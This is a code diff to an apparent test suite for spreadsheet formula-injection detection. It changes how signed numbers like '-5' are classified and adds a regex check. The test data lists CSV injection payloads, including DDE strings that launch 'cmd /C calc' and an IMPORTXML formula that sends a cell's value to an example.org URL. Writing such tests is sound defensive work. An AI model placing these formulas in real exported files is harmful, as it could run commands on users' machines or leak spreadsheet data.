@@ -3,6 +3,7 @@
 import csv
 import io
 import json
+import re
 from collections.abc import Iterator
 from concurrent.futures import ThreadPoolExecutor
 from threading import Event
@@ -37,7 +38,6 @@ OUR_OWN = (
     "\u3000=1+1",
     "\u200b=1+1",
     "\ufeff=1+1",
-    "-5",
     "+49 123 456789",
     '"quoted", and; divided\'',
 )
@@ -47,12 +47,14 @@ PAYLOADS = (
     *("=cmd|'/C calc'!'A1'", 'DDE("cmd";"/C calc";"!A0")A0', '=IMPORTXML(CONCAT("https://example.org/",A1),"//a")'),
     *listed("csv-injection/payloads.json", "payloads"),
 )
-HARMLESS = ("Acme GmbH", "a=b", "'=1+1", "1-2", "x@example.org", "株式会社")
+HARMLESS = ("-5", "+4.5", "Acme GmbH", "a=b", "'=1+1", "1-2", "x@example.org", "株式会社")
 STARTS = (*"=+-@", *"\uff1d\uff0b\uff0d\uff20")
 
 
 def _would_run(cell: str) -> bool:
-    """Whether a spreadsheet that trims a cell would take it for a formula."""
+    """Whether a spreadsheet that trims a cell would take it for a formula, and not for a number."""
+    if re.fullmatch(r"[+-]?[0-9]+(\.[0-9]*)?", cell):
+        return False
     return cell.strip("".join(map(chr, range(33))) + "\u00a0\u3000\u200b\ufeff").startswith(STARTS)
 
 
